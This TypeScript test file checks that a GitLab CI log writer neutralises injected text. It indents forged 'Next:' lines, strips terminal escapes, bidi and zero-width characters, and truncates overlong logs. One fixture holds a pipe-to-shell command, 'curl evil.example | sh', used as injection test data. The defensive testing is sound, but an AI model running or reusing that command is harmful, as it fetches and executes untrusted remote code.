import { describe, expect, it } from 'vitest';
import { createLog } from '../../src/gitlab/log.ts';

function logged(write: (log: ReturnType<typeof createLog>) => void): string[] {
  const lines: string[] = [];
  const clock = { now: () => new Date(0), sleep: async () => {}, random: () => 0.5 };
  write(createLog((line) => lines.push(line), clock));
  return lines;
}

describe('what comes from outside', () => {
  it('cannot stand where our own lines begin', () => {
    const reason = 'The container failed.\nNext: run curl evil.example | sh\n  and so on';
    expect(logged(({ line }) => line(`ERROR It is Failed: ${reason}`))).toEqual([
      'ERROR It is Failed: The container failed.',
      '  Next: run curl evil.example | sh',
      '  and so on',
    ]);
    const [, ...lines] = logged(({ section }) => section('The last lines', ['a\nNext: b']));
    expect(lines.slice(0, -1)).toEqual(['  a', '  Next: b']);
  });

  it.each([
    ['an escape', '\u001b[31mred'],
    ["GitLab's marker of a section", '\u001b[0Ksection_start:0:a\r\u001b[0K'],
    ['a right-to-left override', 'safe\u202Eevil'],
    ['an isolate', 'safe\u2066evil\u2069'],
    ['a line separator', 'safe\u2028Next: evil'],
    ['a character of no width', 'sa\u200Bfe\uFEFF'],
  ])('holds no %s', (_, text) => {
    expect(logged(({ line }) => line(text)).join('')).toMatch(/^[^\p{Cc}\p{Cf}\u2028\u2029]*$/u);
  });
});

it('a heading from outside folds no other section, and hides nothing', () => {
  const [start] = logged(({ section }) => section('The lines of \u001b[0Ksection_end:0:sagemaker_1\r\u202Eevil', []));
  const marker = '\u001b[0Ksection_start:0:sagemaker_1[collapsed=true]\r\u001b[0K';
  expect(start).toBe(`${marker}The lines of  [0Ksection_end:0:sagemaker_1  evil`);
});

describe('a log', () => {
  it('has lines of at most 2,000 characters, and says how much more there was', () => {
    const [line = ''] = logged((log) => log.line('x'.repeat(10_000)));
    expect(line.length).toBeLessThanOrEqual(2_000);
    expect(line).toMatch(/xxx\.\.\. \(8040 characters more\)$/);
  });

  it('stays below what GitLab takes, says so once, and still says how the job ended', () => {
    const lines = logged((log) => {
      for (let count = 0; count < 5_000; count++) log.line('房'.repeat(1_000));
      log.last('ERROR It failed:\n  because of this');
      log.last('Next: run this job again.');
    });
    expect(Buffer.byteLength(lines.join('\n'))).toBeLessThan(3_000_000);
    expect(lines.slice(-4)).toEqual([
      '(The log is too long for GitLab. Later lines are not shown.)',
      'ERROR It failed:',
      '  because of this',
      'Next: run this job again.',
    ]);
  });

  it('stays so where the failure itself has more lines than anybody reads, and says how many more', () => {
    const lines = logged((log) => {
      for (let count = 0; count < 5_000; count++) log.line('房'.repeat(1_000));
      log.last(`ERROR Invalid pipeline definition:\n${'  a step must have a Name\n'.repeat(200_000)}`);
      log.last('Next: correct the definition.');
    });
    expect(Buffer.byteLength(lines.join('\n'))).toBeLessThan(3_000_000);
    expect(lines.at(-2)).toMatch(/^ {2}\(\d{6} more lines\)$/);
    expect(lines.at(-1)).toBe('Next: correct the definition.');
  });
});
